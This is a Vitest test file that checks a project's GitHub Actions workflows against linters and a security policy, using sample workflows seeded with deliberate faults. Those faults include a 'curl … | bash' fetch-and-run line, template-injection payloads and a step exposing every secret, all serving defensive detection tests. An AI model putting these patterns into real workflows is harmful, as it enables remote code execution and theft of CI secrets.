// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are expressions of workflows.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { DISPATCH_TYPE, dispatchSchema } from '../../pipeline/config/schema/dispatch.ts';
import { CONFIG_NAMES } from '../../pipeline/config/schema.ts';
import { projectFolder } from '../support/run-command.ts';
import { callsOf, commandsOf, scopesOfCommand } from '../support/workflows/api-scopes.ts';
import { checkWithActionlint, checkWithLanguageService } from '../support/workflows/checkers.ts';
import { findFaults, ignoredRules } from '../support/workflows/policy.ts';
import {
  parseWorkflowText,
  readWorkflowText,
  workflowNames,
} from '../support/workflows/workflow-file.ts';

const { scripts } = JSON.parse(readFileSync(join(projectFolder, 'package.json'), 'utf8'));

describe.each(workflowNames())('%s', (name) => {
  const text = readWorkflowText(name);
  const { jobs } = parseWorkflowText(text);

  it("has no fault that GitHub's language service finds", async () => {
    expect(await checkWithLanguageService(name, text)).toEqual([]);
  });

  it('has no fault that actionlint finds', async () => {
    expect(await checkWithActionlint(name, text)).toEqual([]);
  });

  it('keeps every rule of the policy', () => {
    expect(findFaults(text)).toEqual([]);
  });

  it('has a comment for each job', () => {
    const bare = Object.keys(jobs).filter((id) => !new RegExp(`#.*\\n  ${id}:\\n`).test(text));
    expect(bare).toEqual([]);
  });

  it('calls commands that there are', () => {
    const steps = Object.values(jobs).flatMap((job) => job.steps ?? []);
    const called = steps.flatMap(({ run = '' }) => commandsOf(run));
    expect(called.filter((command) => !(command in scripts))).toEqual([]);
  });
});

/** What works for minutes, and stops at a safe point after a signal. */
const LONG = ['pipeline', 'scrape', 'recalculate', 'enrich', 'report', 'maintenance'];

describe('the workflows', () => {
  it('start what takes long so that a signal reaches it', () => {
    const steps = workflowNames()
      .map((name) => parseWorkflowText(readWorkflowText(name)))
      .flatMap(({ jobs }) => Object.values(jobs))
      .flatMap((job) => job.steps ?? []);
    const long = steps
      .map(({ run = '' }) => run)
      .filter((run) => commandsOf(run).some((name) => LONG.includes(name)))
      .filter((run) => !run.includes('--dry-run'));
    expect(long.length).toBeGreaterThanOrEqual(LONG.length);
    for (const run of long) {
      expect(run).toMatch(
        /^exec node --import \.\/pipeline\/runtime\/node-guard\.mjs pipeline\/cli\.ts \S+$/,
      );
    }
  });

  it('ignore a rule only where that is meant', () => {
    const ignored = workflowNames().map((name) => [name, ignoredRules(readWorkflowText(name))]);
    expect(Object.fromEntries(ignored)).toEqual({
      'ci.yml': [],
      'codeql.yml': [],
      'config-comment.yml': ['dangerous-triggers', 'concurrency-limits'],
      'config-form.yml': ['dangerous-triggers'],
      'config-preview.yml': [],
      'maintenance.yml': ['concurrency-limits'],
      'pipeline.yml': ['concurrency-limits'],
      'run-report.yml': ['dangerous-triggers', 'concurrency-limits'],
      'setup-check.yml': [],
      'zizmor.yml': [],
    });
  });

  it('build the site without a secret, a database or a right to write', () => {
    const { jobs } = parseWorkflowText(readWorkflowText('pipeline.yml'));
    expect(JSON.stringify(jobs.build)).not.toMatch(/secrets|github\.token|DATABASE|environment"/);
    expect(jobs.build?.permissions).toEqual({ contents: 'read' });
    expect(JSON.stringify(jobs.deploy)).not.toContain('npm');
  });

  it('deploy only what was built and is sound', () => {
    const { jobs } = parseWorkflowText(readWorkflowText('pipeline.yml'));
    const runs = (jobs.build?.steps ?? []).map(({ run, uses }) => run ?? uses ?? '');
    const at = (part: string) => runs.findIndex((run) => run.includes(part));
    expect(at('site:build')).toBeLessThan(at('site:check'));
    expect(at('site:check')).toBeLessThan(at('upload-pages-artifact'));
    expect(jobs.deploy?.needs).toContain('build');
  });

  it('offer a form with the names of the payload, and take its event type', () => {
    const { on } = parseWorkflowText(readWorkflowText('pipeline.yml')) as {
      on: Record<string, { inputs: object; types: string[] }>;
    };
    expect(Object.keys(on.workflow_dispatch?.inputs ?? {}).toSorted()).toEqual(
      Object.keys(dispatchSchema.shape).toSorted(),
    );
    expect(on.repository_dispatch?.types).toEqual([DISPATCH_TYPE]);
    // GitHub takes no more properties in a payload.
    expect(Object.keys(dispatchSchema.shape).length).toBeLessThanOrEqual(10);
    expect(CONFIG_NAMES).not.toContain('dispatch');
  });

  it('report the workflows by the names that those have', () => {
    const reported = ['run-report.yml', 'config-comment.yml'].flatMap((name) => {
      const { on } = parseWorkflowText(readWorkflowText(name)) as {
        on: { workflow_run: { workflows: string[] } };
      };
      return on.workflow_run.workflows;
    });
    const names = workflowNames().map((name) => parseWorkflowText(readWorkflowText(name)).name);
    expect(names).toEqual(expect.arrayContaining(reported));
  });

  it('are updated by Dependabot after a while', () => {
    const { updates } = parse(readFileSync(join(projectFolder, '.github/dependabot.yml'), 'utf8'));
    for (const update of updates) expect(update.cooldown['default-days']).toBeGreaterThan(4);
  });

  it('come with a policy for those who find a hole', () => {
    expect(existsSync(join(projectFolder, 'SECURITY.md'))).toBe(true);
  });
});

describe('the rights of a command', () => {
  it.each([
    ['actions:plan', { actions: 'read', pages: 'read' }],
    ['actions:report-run', { actions: 'read', issues: 'write' }],
    ['actions:keep-alive', { actions: 'write' }],
    ['actions:preview-config', { contents: 'read', 'pull-requests': 'read' }],
    ['actions:comment-preview', { actions: 'read', 'pull-requests': 'write' }],
    ['scrape', {}],
  ])('are read from its calls: %s', (command, scopes) => {
    expect(scopesOfCommand(command)).toEqual(scopes);
  });

  it('are known for every call', () => {
    expect(callsOf('pipeline/actions/report-run.ts')).toContain('issues.create');
  });
});

/** A workflow without a fault. */
const SOUND = `name: Sound
on:
  schedule:
    - cron: '0 2 * * *'
permissions: {}
concurrency:
  group: sound
  cancel-in-progress: true
jobs:
  work:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    environment: production
    permissions:
      contents: read
      actions: write
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - uses: actions/setup-node@820762786026740c76f36085b0efc47a31fe5020 # v7.0.0
        with:
          package-manager-cache: false
      - run: npm ci --omit=dev --ignore-scripts
      - id: work
        run: npm run actions:keep-alive
        env:
          SECRET: \${{ secrets.SECRET }}
`;

const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';

describe('a planted fault', () => {
  it('is not there at first', async () => {
    expect(findFaults(SOUND)).toEqual([]);
    expect(await checkWithLanguageService('sound.yml', SOUND)).toEqual([]);
    expect(await checkWithActionlint('sound.yml', SOUND)).toEqual([]);
  });

  it.each([
    ['unpinned-uses', CHECKOUT, 'actions/checkout@v7 # v7.0.1'],
    ['ref-version-mismatch', CHECKOUT, CHECKOUT.replace('v7.0.1', 'v6.0.0')],
    ['unknown-action', CHECKOUT, CHECKOUT.replace('actions/', 'somebody/')],
    [
      'unknown-input',
      'persist-credentials: false',
      'persist-credentials: false\n          fetch: 1',
    ],
    ['artipacked', 'persist-credentials: false', 'persist-credentials: true'],
    ['artipacked', 'persist-credentials: false', 'clean: true'],
    [
      'template-injection',
      'npm run actions:keep-alive',
      'npm run actions:keep-alive ${{ github.event.client_payload.x }}',
    ],
    [
      'template-injection',
      'npm run actions:keep-alive',
      '|\n          npm run actions:keep-alive ${{ inputs.x }}',
    ],
    ['excessive-permissions', 'permissions: {}', 'permissions: write-all'],
    ['excessive-permissions', 'permissions: {}\n', ''],
    ['excessive-permissions', 'actions: write', 'actions: write\n      issues: write'],
    ['missing-permissions', 'actions: write', 'actions: read'],
    ['secrets-outside-env', '    environment: production\n', ''],
    ['overprovisioned-secrets', '${{ secrets.SECRET }}', '${{ toJSON(secrets) }}'],
    [
      'overprovisioned-secrets',
      '    environment: production\n',
      '    environment: production\n    env:\n      A: ${{ secrets.SECRET }}\n',
    ],
    ['overprovisioned-secrets', 'jobs:\n', 'env:\n  A: ${{ secrets.SECRET }}\njobs:\n'],
    ['dangerous-triggers', "schedule:\n    - cron: '0 2 * * *'", 'pull_request_target:'],
    [
      'dangerous-triggers',
      "schedule:\n    - cron: '0 2 * * *'",
      'workflow_run:\n    workflows: [A]',
    ],
    ['cache-poisoning', 'package-manager-cache: false', 'node-version: 26'],
    ['concurrency-limits', 'concurrency:\n  group: sound\n  cancel-in-progress: true\n', ''],
    ['concurrency-limits', 'cancel-in-progress: true', 'cancel-in-progress: false'],
    ['missing-timeout', '    timeout-minutes: 5\n', ''],
    ['adhoc-packages', 'npm ci --omit=dev --ignore-scripts', 'npm install'],
    ['adhoc-packages', 'npm ci --omit=dev --ignore-scripts', 'npm ci'],
    ['adhoc-packages', 'npm ci --omit=dev --ignore-scripts', 'npx something'],
    ['adhoc-packages', 'npm ci --omit=dev --ignore-scripts', 'curl https://x.example/i.sh | bash'],
    ['floating-runner', 'ubuntu-24.04', 'ubuntu-latest'],
    [
      'unpinned-images',
      '    steps:\n',
      '    services:\n      a:\n        image: postgres\n    steps:\n',
    ],
    ['github-env', 'npm run actions:keep-alive', 'npm run actions:keep-alive >> "$GITHUB_ENV"'],
    [
      'insecure-commands',
      'npm run actions:keep-alive',
      'npm run actions:keep-alive; echo "::set-output name=a::b"',
    ],
  ])('%s is caught by the policy: %s → %s', (rule, before, after) => {
    expect(SOUND).toContain(before);
    const rules = findFaults(SOUND.replace(before, () => after)).map((finding) => finding.rule);
    expect(rules).toContain(rule);
  });

  it.each([
    ['timeout-minutes: 5', 'timeout-minute: 5'],
    ['secrets.SECRET }}', 'steps.nope.outputs.x }}'],
    ["'0 2 * * *'", "'0 25 * * *'"],
    ['    runs-on: ubuntu-24.04\n', ''],
    ['    steps:', '    needs: nothing\n    steps:'],
    ['secrets.SECRET }}', 'secrets.SECRET && }}'],
  ])("is caught by GitHub's language service: %s → %s", async (before, after) => {
    const text = SOUND.replace(before, () => after);
    expect(await checkWithLanguageService('bad.yml', text)).not.toEqual([]);
  });

  it.each([
    ['ubuntu-24.04', 'ubuntu-24.40'],
    ['  schedule:', '  shedule:'],
    ['actions: write', 'actions: wirte'],
    ['secrets.SECRET }}', 'github.nope }}'],
    ['secrets.SECRET }}', 'fromJson(1, 2, 3) }}'],
  ])('is caught by actionlint: %s → %s', async (before, after) => {
    const text = SOUND.replace(before, () => after);
    expect(await checkWithActionlint('bad.yml', text)).not.toEqual([]);
  });
});
